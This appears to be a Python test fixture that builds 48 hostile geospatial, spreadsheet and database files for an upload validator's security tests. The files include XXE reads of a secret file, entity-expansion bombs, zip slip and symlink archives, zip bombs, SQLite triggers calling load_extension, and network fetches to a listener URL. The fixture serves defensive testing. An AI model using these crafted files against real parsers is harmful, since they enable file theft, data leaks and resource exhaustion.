"""Files made to do harm, each by a function (folder, address of a listener, secret file) -> path; family E of the faults and neighbours."""

from __future__ import annotations

import json
import sqlite3
import struct
import warnings
import zipfile
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path
from typing import Any

import geopandas as gpd
import shapely

from tests.kaltim import workbook


@dataclass(frozen=True)
class Scene:
    """Where the file is made, the address that must hear nothing, the file whose text must appear nowhere."""

    folder: Path
    url: str
    secret: Path

    def write(self, name: str, content: str | bytes) -> Path:
        path = self.folder / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path


Maker = Callable[[Scene], Path]


def vrt(scene: Scene, name: str = "titik.geojson") -> Path:
    """Fault 74: an OGR VRT that reads another file, and one over the network."""
    return scene.write(
        name,
        f"""<OGRVRTDataSource><OGRVRTLayer name="rahasia"><SrcDataSource>CSV:{scene.secret}</SrcDataSource></OGRVRTLayer>
        <OGRVRTLayer name="b"><SrcDataSource>/vsicurl/{scene.url}/b.csv</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>""",
    )


def raster_vrt(scene: Scene) -> Path:
    """Fault 74 for rasters."""
    source = f"/vsicurl/{scene.url}/a.tif"
    return scene.write(
        "orang.tif",
        '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand band="1" dataType="Float32"><SimpleSource>'
        f"<SourceFilename>{source}</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>",
    )


def gdalg(scene: Scene) -> Path:
    """Fault 75: a pipeline of GDAL commands as JSON."""
    line = f"gdal vector pipeline ! read /vsicurl/{scene.url}/x.geojson ! concat {scene.secret}"
    return scene.write("titik.geojson", json.dumps({"type": "gdal_streamed_alg", "command_line": line}))


def link(scene: Scene) -> Path:
    """Fault 77: a crs to be fetched."""
    crs = {"type": "link", "properties": {"href": f"{scene.url}/crs.wkt", "type": "ogcwkt"}}
    return scene.write("titik.geojson", json.dumps(points(crs=crs)))


def points(**members: Any) -> dict[str, Any]:
    at = {"type": "Point", "coordinates": [117.15, -0.5]}
    row = {"type": "Feature", "properties": {"nama": "A", "tanggal": "2024-10-24"}, "geometry": at}
    return {"type": "FeatureCollection", **members, "features": [row]}


def kml(scene: Scene) -> Path:
    """Fault 78: an external entity, entities that swell, and a link."""
    bombs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(10))
    return scene.write(
        "titik.kml",
        f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{scene.secret.as_uri()}">{bombs}]>'
        f'<kml xmlns="http://www.opengis.net/kml/2.2"><Document><NetworkLink><Link><href>{scene.url}/l.kml</href></Link>'
        "</NetworkLink><Placemark><name>&x;&a9;</name></Placemark></Document></kml>",
    )


def kmz(scene: Scene) -> Path:
    return zipped(scene, "titik.kmz", {"doc.kml": kml(scene).read_bytes()})


def gml(scene: Scene) -> Path:
    """Fault 79: a schema and a member to be fetched."""
    return scene.write(
        "desa.gml",
        f'<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns:gml="http://www.opengis.net/gml" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" xsi:schemaLocation="http://x {scene.url}/x.xsd" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><gml:featureMember xlink:href="{scene.url}/m"/>'
        "</wfs:FeatureCollection>",
    )


def xml(scene: Scene) -> Path:
    return scene.write(
        "data.csv", f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{scene.secret.as_uri()}">]><a>&x;</a>'
    )


def address(scene: Scene) -> Path:
    """Fault 76: text that some program would take for an address."""
    return scene.write(
        "data.csv", f"/vsicurl/{scene.url}/a.csv\nPG:host=127.0.0.1 port=9\n/vsizip/vsicurl/{scene.url}/a.zip\n"
    )


def zipped(scene: Scene, name: str, members: dict[str, bytes]) -> Path:
    path = scene.folder / name
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, content)
    return path


def shapefile(folder: Path, crs: str | None = "EPSG:4326", rows: int = 3) -> dict[str, bytes]:
    """The parts of a small good shapefile."""
    frame = gpd.GeoDataFrame(
        {"nama": [f"Titik {i}" for i in range(rows)]},
        geometry=[shapely.Point(117.1 + i / 100, -0.5) for i in range(rows)],
        crs=crs,
    )
    folder = folder / "shp"
    folder.mkdir(exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        frame.to_file(folder / "titik.shp")
    return {path.name: path.read_bytes() for path in sorted(folder.glob("titik.*"))}


def slip(scene: Scene) -> Path:
    """Fault 81: a member that leads out."""
    return zipped(scene, "desa.zip", {**shapefile(scene.folder), "../../keluar.shp": b"x"})


def slip_windows(scene: Scene) -> Path:
    return zipped(scene, "desa.zip", {**shapefile(scene.folder), "a\\..\\..\\keluar.txt": b"x"})


def absolute(scene: Scene) -> Path:
    return zipped(scene, "desa.zip", {**shapefile(scene.folder), f"{scene.folder}/keluar.txt": b"x"})


def drive(scene: Scene) -> Path:
    return zipped(scene, "desa.zip", {**shapefile(scene.folder), "C:/keluar.txt": b"x"})


def symlink(scene: Scene) -> Path:
    path = zipped(scene, "desa.zip", shapefile(scene.folder))
    item = zipfile.ZipInfo("titik.qix")
    item.create_system, item.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(item, str(scene.secret))
    return path


def symlink_as_data(scene: Scene) -> Path:
    parts = shapefile(scene.folder)
    dbf = parts.pop("titik.dbf")
    path = zipped(scene, "desa.zip", parts)
    item = zipfile.ZipInfo("titik.dbf")
    item.create_system, item.external_attr = 3, 0o120777 << 16
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(item, str(scene.secret))
    assert dbf
    return path


def bomb(scene: Scene) -> Path:
    """Fault 82: half a megabyte that unpacks to 512 MiB."""
    parts = shapefile(scene.folder)
    path = zipped(scene, "desa.zip", {name: content for name, content in parts.items() if not name.endswith(".dbf")})
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive, archive.open("titik.dbf", "w") as stream:
        for _ in range(512):
            stream.write(bytes(1 << 20))
    return path


def nested(scene: Scene) -> Path:
    inner = zipped(scene, "dalam.zip", shapefile(scene.folder)).read_bytes()
    return zipped(scene, "desa.zip", {"dalam.zip": inner})


def liar(scene: Scene) -> Path:
    """A member bigger than the directory says."""
    parts = shapefile(scene.folder)
    parts["titik.dbf"] += bytes(100_000)
    size = len(parts["titik.dbf"])
    path = zipped(scene, "desa.zip", parts)
    path.write_bytes(path.read_bytes().replace(struct.pack("<I", size), struct.pack("<I", 100)))
    return path


def overlapping(scene: Scene) -> Path:
    """Many names for one packed member: small on the disk and in every single size, big in all."""
    path = zipped(scene, "desa.zip", {"titik.shp": bytes(60 << 20)})
    data = path.read_bytes()
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[start:end]
    many = b"".join(entry.replace(b"titik.shp", f"titi{i:01x}.shp".encode()) for i in range(16))
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", 16, 16)
    tail[12:16] = struct.pack("<I", len(many))
    path.write_bytes(data[:start] + many + bytes(tail))
    return path


def crowd(scene: Scene) -> Path:
    path = scene.folder / "desa.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for i in range(10_001):
            archive.writestr(f"{i}.shp", b"")
    return path


def twins(scene: Scene) -> Path:
    path = zipped(scene, "desa.zip", shapefile(scene.folder))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("TITIK.DBF", b"x")
    return path


def locked(scene: Scene) -> Path:
    """Encrypted, by the flag that says so."""
    path = zipped(scene, "desa.zip", shapefile(scene.folder))
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 1)
    path.write_bytes(bytes(data))
    return path


def grids_of_prj(scene: Scene) -> Path:
    """A coordinate system whose definition names files and an address."""
    parts = shapefile(scene.folder)
    proj4 = f"+proj=longlat +ellps=bessel +nadgrids={scene.secret},/vsicurl/{scene.url}/g.gsb +no_defs"
    datum = 'DATUM["x",SPHEROID["Bessel 1841",6377397.155,299.1528128]]'
    parts["titik.prj"] = (
        f'GEOGCS["x",{datum},PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","{proj4}"]]'.encode()
    )
    return zipped(scene, "desa.zip", parts)


def init_of_prj(scene: Scene) -> Path:
    parts = shapefile(scene.folder)
    parts["titik.prj"] = f"+init={scene.secret}:1".encode()
    return zipped(scene, "desa.zip", parts)


def address_of_prj(scene: Scene) -> Path:
    parts = shapefile(scene.folder)
    parts["titik.prj"] = f"{scene.url}/def/crs/EPSG/0/4326".encode()
    return zipped(scene, "desa.zip", parts)


def gpkg(scene: Scene, *statements: str, name: str = "desa.gpkg") -> Path:
    """A good GeoPackage, then statements behind its back."""
    path = scene.folder / name
    path.unlink(missing_ok=True)  # else the triggers of the last one would act on this
    frame = gpd.GeoDataFrame({"nama": ["A", "B"]}, geometry=[shapely.Point(117.1, -0.5)] * 2, crs="EPSG:4326")
    frame.to_file(path, driver="GPKG", layer="desa")
    with closing(sqlite3.connect(path)) as base, base:
        for (trigger,) in base.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            base.execute(f'DROP TRIGGER "{trigger}"')
        for statement in statements:
            base.execute(statement)
    return path


def triggers(scene: Scene) -> Path:
    """Fault 85: triggers on everything GDAL might write."""
    return gpkg(
        scene,
        *(
            f"CREATE TRIGGER t{i} {when} ON {table} BEGIN SELECT load_extension('{scene.secret}'); DELETE FROM desa; END"
            for i, (when, table) in enumerate(
                [
                    ("AFTER UPDATE", "gpkg_contents"),
                    ("AFTER INSERT", "gpkg_contents"),
                    ("AFTER UPDATE", "gpkg_ogr_contents"),
                ]
            )
        ),
    )


def views(scene: Scene, select: str = "SELECT fid, geom, readfile('{secret}') AS nama FROM desa") -> Path:
    """Fault 85: a layer that is a view, and what it selects."""
    path = gpkg(scene)
    with closing(sqlite3.connect(path)) as base, base:
        base.execute("ALTER TABLE desa RENAME TO asal")
        select = select.format(secret=scene.secret, url=scene.url).replace("desa", "asal")
        base.execute(f"CREATE VIEW desa AS {select}")
    return path


def view_extension(scene: Scene) -> Path:
    return views(scene, "SELECT fid, geom, load_extension('{secret}') AS nama FROM desa")


def view_functions(scene: Scene) -> Path:
    """Functions GDAL itself gives to SQL, which open other data."""
    pixel = "gdal_get_layer_pixel_value('/vsicurl/{url}/a.tif', 1, 'georef', 1, 1)"
    return views(scene, f"SELECT fid, geom, ogr_layer_Extent('{{secret}}') || {pixel} AS nama FROM desa")


def virtual(scene: Scene) -> Path:
    """Fault 85: a virtual table of a module that reads files, written into the schema as it stands."""
    path = gpkg(scene)
    with closing(sqlite3.connect(path)) as base, base:
        base.execute("PRAGMA writable_schema = ON")
        for name, sql in (
            ("v1", f"CREATE VIRTUAL TABLE v1 USING VirtualOGR(''{scene.secret}'', ''rahasia'')"),
            ("v2", f"CREATE VIRTUAL TABLE v2 USING csv(filename=''{scene.secret}'')"),
            ("v3", f"CREATE VIRTUAL TABLE v3 USING VirtualText(''/vsicurl/{scene.url}/x.csv'')"),
        ):
            base.execute(f"INSERT INTO sqlite_master VALUES ('table', '{name}', '{name}', 0, '{sql}')")
            base.execute(
                "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES (?, 'features', ?, 4326)",
                (name, name),
            )
            base.execute("INSERT INTO gpkg_geometry_columns VALUES (?, 'geom', 'POINT', 4326, 0, 0)", (name,))
    return path


def endless(scene: Scene) -> Path:
    """A view that never ends."""
    count = "WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r) "
    return views(scene, count + "SELECT fid, geom, 'x' AS nama FROM desa, r WHERE r.i < 0")


def attached(scene: Scene) -> Path:
    """A database renamed, which is no GeoPackage."""
    path = scene.folder / "desa.gpkg"
    with closing(sqlite3.connect(path)) as base, base:
        base.execute("CREATE TABLE a (b)")
        base.execute("PRAGMA application_id = 0x47504B47")
    return path


def sqlite(scene: Scene) -> Path:
    path = scene.folder / "data.db"
    with closing(sqlite3.connect(path)) as base, base:
        base.execute("CREATE TABLE a (b)")
    return path


def duckdb(scene: Scene) -> Path:
    return scene.write("data.duckdb", struct.pack("<Q", 7) + b"DUCK" + bytes(4096))


def parquet(scene: Scene) -> Path:
    path = scene.folder / "data.parquet"
    gpd.pd.DataFrame({"a": [1]}).to_parquet(path)
    return path


def flatgeobuf(scene: Scene) -> Path:
    return scene.write("data.fgb", b"fgb\x03fgb\x01" + bytes(200))


def deep(scene: Scene) -> Path:
    """Fault 86: 200,000 lists in each other, where a point should be."""
    tree = json.dumps(points()).replace("[117.15, -0.5]", "[" * 200_000 + "]" * 200_000)
    return scene.write("titik.geojson", tree)


def deep_objects(scene: Scene) -> Path:
    return scene.write("titik.geojson", '{"type":"FeatureCollection","a":' * 200_000 + "1" + "}" * 200_000)


def twice(scene: Scene) -> Path:
    return scene.write("titik.geojson", json.dumps(points()).replace('"nama"', '"tanggal": "2023-01-01", "nama"'))


def halves(scene: Scene) -> Path:
    return scene.write("titik.geojson", json.dumps(points()).replace('"A"', '"\\ud800"'))


def entities(scene: Scene, part: str = "xl/worksheets/sheet1.xml") -> Path:
    """A workbook with an external entity and ones that swell in one part."""
    source = workbook(scene.folder, [["tanggal", "jenis"], ["2024-10-24", "demo"]], "baik.xlsx")
    bombs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(10))
    doctype = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{scene.secret.as_uri()}">{bombs}]>'
    out = BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode()
            if name == part:
                head, rest = content.split("?>", 1)
                content = f"{head}?>{doctype}{rest}".replace("<t>demo</t>", "<t>&x;&a9;</t>").replace(
                    "<v>", "<v>&x;", 1
                )
            new.writestr(name, content)
    return scene.write("data.xlsx", out.getvalue())


def entities_of_strings(scene: Scene) -> Path:
    return entities(scene, "xl/sharedStrings.xml")


def entities_of_styles(scene: Scene) -> Path:
    return entities(scene, "xl/styles.xml")


def foreign_links(scene: Scene) -> Path:
    """A workbook whose formulas and relations point to other files and addresses."""
    source = workbook(
        scene.folder,
        [["tanggal", "jenis"], [("=WEBSERVICE(" + f'"{scene.url}/x")', "x"), (f"='file://{scene.secret}'#$A.A1", "y")]],
        "baik.xlsx",
    )
    out = BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode()
            if name == "xl/_rels/workbook.xml.rels":
                kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
                outer = f'<Relationship Id="rId99" Type="{kind}" Target="{scene.url}/l.xlsx" TargetMode="External"/>'
                inner = f'<Relationship Id="rId98" Type="{kind}" Target="{scene.secret}"/>'
                content = content.replace("</Relationships>", f"{outer}{inner}</Relationships>")
            new.writestr(name, content)
    return scene.write("data.xlsx", out.getvalue())


def foreign_sheet(scene: Scene) -> Path:
    """A workbook whose sheet is said to lie outside of it."""
    source = workbook(scene.folder, [["tanggal", "jenis"], ["2024-10-24", "demo"]], "baik.xlsx")
    out = BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name).decode()
            if name == "xl/_rels/workbook.xml.rels":
                content = content.replace("worksheets/sheet1.xml", f"../../../../../..{scene.secret}")
            new.writestr(name, content)
    return scene.write("data.xlsx", out.getvalue())


ODS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0"'
)


def ods(scene: Scene, rows: str, doctype: str = "") -> Path:
    """A LibreOffice workbook of one sheet `A` with these rows."""
    body = (
        f'<?xml version="1.0"?>{doctype}<office:document-content {ODS}><office:body><office:spreadsheet>'
        f'<table:table table:name="A">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    )
    mime = "application/vnd.oasis.opendocument.spreadsheet"
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    manifest = (
        f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{space}">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mime}"/></manifest:manifest>'
    )
    members = {"mimetype": mime, "content.xml": body, "META-INF/manifest.xml": manifest}
    return zipped(scene, "data.ods", {name: text.encode() for name, text in members.items()})


def ods_entities(scene: Scene) -> Path:
    """An external entity in a cell, and ones that swell."""
    bombs = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10 if i else "ha"}">' for i in range(10))
    doctype = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{scene.secret.as_uri()}">{bombs}]>'
    cell = '<table:table-cell office:value-type="string"><text:p>{}</text:p></table:table-cell>'
    return ods(scene, f"<table:table-row>{cell.format('&x;')}{cell.format('&a9;')}</table:table-row>", doctype)


def ods_repeats(scene: Scene) -> Path:
    """One cell repeated sixteen thousand million times."""
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="16000"><text:p>x</text:p></table:table-cell>'
    return ods(scene, f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>')


def old_workbook(scene: Scene, rows: int = 3, name: str = "lama.xls") -> Path:
    """A small .xls by hand: text, a number, and on each row an error as a value and one as the result of a formula."""

    def record(kind: int, body: bytes) -> bytes:
        return struct.pack("<HH", kind, len(body)) + body

    def label(row: int, column: int, text: str) -> bytes:
        return record(0x204, struct.pack("<HHHHB", row, column, 0, len(text), 0) + text.encode("latin-1"))

    begin = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    cells = record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0, 0, 0, 0))
    cells += record(0x200, struct.pack("<IIHHH", 0, rows + 1, 0, 4, 0))
    cells += b"".join(label(0, i, text) for i, text in enumerate(("nama", "jumlah", "galat", "rumus")))
    for row in range(1, rows + 1):
        cells += label(row, 0, "A") + record(0x203, struct.pack("<HHHd", row, 1, 0, 7.0))
        cells += record(0x205, struct.pack("<HHHBB", row, 2, 0, 0x2A, 1))
        cells += record(
            0x06, struct.pack("<HHH", row, 3, 0) + b"\x02\x00\x17\x00\x00\x00\xff\xff" + bytes(6) + struct.pack("<H", 0)
        )
    cells += record(0x0A, b"")
    sheet = record(0x85, struct.pack("<IHBB", 0, 0, 4, 0) + b"Data")
    book = (
        begin
        + record(0x85, struct.pack("<IHBB", len(begin) + len(sheet) + 4, 0, 4, 0) + b"Data")
        + record(0x0A, b"")
        + cells
    )
    book += bytes(-len(book) % 512) if len(book) >= 4096 else bytes(4096 - len(book))
    count = len(book) // 512

    def entry(title: str, kind: int, child: int, start: int, size: int) -> bytes:
        raw = title.encode("utf-16-le")
        head = raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw) + 2, kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
        return head + bytes(36) + struct.pack("<III", start, size, 0)

    tables = -(-(count + 2) // 128) or 1
    table = [0xFFFFFFFD] * tables + [0xFFFFFFFE] + [tables + 2 + i for i in range(count - 1)] + [0xFFFFFFFE]
    table += [0xFFFFFFFF] * (tables * 128 - len(table))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, tables, tables, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    header += struct.pack("<109I", *(list(range(tables)) + [0xFFFFFFFF] * (109 - tables)))
    folder = (
        entry("Root Entry", 5, 1, 0xFFFFFFFE, 0) + entry("Workbook", 2, 0xFFFFFFFF, tables + 1, len(book)) + bytes(256)
    )
    return scene.write(name, header + struct.pack(f"<{len(table)}I", *table) + folder + book)


def html(scene: Scene) -> Path:
    return scene.write("data.xls", f'<html><img src="{scene.url}/i.png"><table><tr><td>a</td></tr></table></html>')


def ole(scene: Scene) -> Path:
    return scene.write("data.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096)


MAKERS: tuple[Maker, ...] = (
    vrt,
    raster_vrt,
    gdalg,
    link,
    kml,
    kmz,
    gml,
    xml,
    address,
    slip,
    slip_windows,
    absolute,
    drive,
    symlink,
    symlink_as_data,
    bomb,
    nested,
    liar,
    overlapping,
    crowd,
    twins,
    locked,
    grids_of_prj,
    init_of_prj,
    address_of_prj,
    triggers,
    views,
    view_extension,
    view_functions,
    virtual,
    attached,
    sqlite,
    duckdb,
    parquet,
    flatgeobuf,
    deep,
    deep_objects,
    twice,
    halves,
    entities,
    entities_of_strings,
    entities_of_styles,
    foreign_links,
    foreign_sheet,
    ods_entities,
    ods_repeats,
    html,
    ole,
)
